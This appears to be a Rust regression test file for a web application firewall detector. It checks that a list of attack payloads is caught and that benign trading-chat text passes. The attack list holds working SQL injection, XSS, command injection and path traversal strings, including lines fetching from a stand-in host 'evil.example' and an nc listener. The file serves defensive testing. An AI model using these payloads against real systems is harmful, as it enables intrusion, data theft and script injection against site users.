#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "tests"
)]
//! The detectors on payloads and prose that are not in the team's corpora:
//! attacks collected from public payload lists after the detectors were
//! written, and benign trading text with the characters and words the
//! detectors look at. Kept as a regression suite.

use rampart_shield::waf::detect;

const ATTACKS: &[&str] = &[
    "1' or '1'='1' /*",
    "' or 1 in (select @@version)--",
    "admin') or ('1'='1'--",
    "1 and (select substring(@@version,1,1))='5'",
    "' and 1 in (select min(name) from sysobjects where xtype = 'U' and name > '.') --",
    "1' AND (SELECT 6520 FROM (SELECT(SLEEP(5)))OVKm) AND 'zxQO'='zxQO",
    "-1' or 1=1 limit 1 offset 1 #",
    "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#",
    "' union select 1,load_file(0x2f6574632f706173737764),3 -- -",
    "1 and extractvalue(rand(),concat(0x3a,version()))",
    "x' or name like '%",
    "1 || 1=1",
    "' + (SELECT TOP 1 name FROM sysobjects) + '",
    "';select pg_sleep(3);--",
    "1; WAITFOR DELAY '00:00:05'",
    "' and '1'='1",
    "admin\" --",
    "1' and ascii(lower(substring((select top 1 name from sysobjects where xtype='u'), 1, 1))) > 116--",
    "'; if (1=1) waitfor delay '00:00:05'--",
    "23 OR 1=1",
    "1' where 1=1 --",
    "' or 2 between 1 and 3--",
    "'; select * from users; --",
    "') or true--",
    "' or sleep(5)='",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<iframe/src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<style onload=alert(1)>",
    "<script>alert`1`</script>",
    "\"><svg/onload=confirm(1)>",
    "</title><script>alert(1)</script>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x",
    "<img src=`x` onerror=alert(1)>",
    "<a href='javas&#99;ript:alert(1)'>",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<math href=javascript:alert(1)>click",
    "\" onfocus=alert(1) autofocus=\"",
    "'-confirm(1)-'",
    "\";alert(String.fromCharCode(88,83,83))//",
    "<img src=x onerror=window['al'+'ert'](1)>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">",
    "; cat /etc/passwd #",
    "| ls /",
    "`sleep 5`",
    "$(sleep 5)",
    "; ping -n 5 127.0.0.1",
    "; /bin/ls -al",
    "a); id #",
    "|| curl http://x.example",
    "; nc -lvp 4444",
    "| tail -n 20 /var/log/auth.log",
    "; echo vulnerable > /tmp/x",
    "|id #",
    "; ps aux",
    "| dir",
    "../../../../boot.ini",
    "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    "/%2e%2e/%2e%2e/etc/passwd",
    "..\\/..\\/etc",
    "/..%c0%af../etc/passwd",
    ".%2e/.%2e/etc/passwd",
    "' or 'one'='one",
    "1)) OR 1=1--",
    "' AND (SELECT COUNT(*) FROM users) > 0 --",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "\" or sleep(3)#",
    "'; declare @v varchar(8000); select @v = password from users--",
    "<svg><animatetransform onbegin=alert(1)>",
    "<frameset onload=alert(1)>",
    "<script/src=data:,alert(1)>",
    "<a href=\"  &#14;javascript:alert(1)\">x</a>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "\"><iframe src=//evil.example>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<embed code=javascript:alert(1)>",
    "; bash -c 'id'",
    "| wget evil.example/x",
    "$(curl evil.example)",
    "; python3 -c 'print(1)'",
    "; ls ${HOME}",
    "../../../../var/log/nginx/access.log",
    "..\\..\\..\\..\\inetpub\\wwwroot\\web.config",
    "..%255c..%255cboot.ini",
];

const BENIGN: &[&str] = &[
    "Let's go long at 61,200 or lower",
    "O'Reilly & Associates' royalty",
    "Charles' and James' joint account",
    "Plan: buy 1 BTC; sell 2 ETH",
    "Use 'limit' or 'market' orders",
    "price = 65000 or best offer",
    "Join the union; select reps",
    "<important> rebalance",
    "Q&A session; id required",
    "score 5 > 3 && 4 < 6",
    "#1 priority",
    "email: o'neil@example.com",
    "https://example.com/?q=select+price&sort=desc",
    "x > 5 and y < 10",
    "it's 100% 'safe'",
    "'Hello' said Bob; 'Bye' said Alice",
    "the 'or' operator",
    "<-- see above",
    "a<b>c",
    "curl request from script",
    "John; cat lover",
    "$100 bonus; $50 fee",
    "it's 5' or 6'",
    "O'Brien's 1=1 match",
    "SELECT * is bad style",
    "Send to Dave <dave@example.com>",
    "size: 10 < x < 20",
    "Let's sell half; keep half",
    "Mom's 'rainy day' fund",
    "BTC or ETH? Both",
    "O'Connor's bday gift",
    "Paying 'Big Joe' back",
    "1 BTC = 65k USD",
    "select-all bug fix bonus",
    "I said \"no\" -- twice",
    "Quarterly tax (Q2) – Jürgen",
    "From Bob's to Alice's wallet",
    "test; test; test",
    "amount > min and < max",
    "it's either 'a' or 'b'",
    "user's note: 'sell' if < 60k",
    "\"sell\" or \"hold\"?",
    "Ma & Pa Kettle Trust",
    "Pipe dream | long shot",
    "Let's drop by at 5",
    "Update me or else",
    "Doe, John (ID 4711)",
    "5 or 6 BTC max",
    "hold; no sell; no buy",
    "P.S. thanks",
    "$ETH bags",
    "Rebalancing <portfolio A>",
    "tickers: <BTC>, <ETH>",
    "<no-reply> address test",
    "The book 'SQL in 10 minutes'",
    "Union dues for Q3",
    "<<urgent>> payroll",
    "(a) or (b)",
    "x=1; y=2",
    "'quoted'",
    "''",
    "'",
    "\"",
    "--",
    "#",
    "<",
    ">",
    "&",
    ";",
    "|",
];

#[test]
fn held_out_attacks_are_caught() {
    let missed: Vec<&str> = ATTACKS
        .iter()
        .copied()
        .filter(|a| detect::scan(a, 4).is_none())
        .collect();
    assert!(missed.is_empty(), "missed: {missed:#?}");
}

#[test]
fn benign_prose_passes() {
    let flagged: Vec<(&str, &str)> = BENIGN
        .iter()
        .filter_map(|b| detect::scan(b, 4).map(|h| (*b, h.rule)))
        .collect();
    assert!(flagged.is_empty(), "flagged: {flagged:#?}");
}

#[test]
fn a_bare_parent_directory_is_traversal() {
    // By design: `..` alone is the classic value for a file parameter.
    assert_eq!(
        detect::scan("..", 4).map(|h| h.rule),
        Some("path-traversal")
    );
}
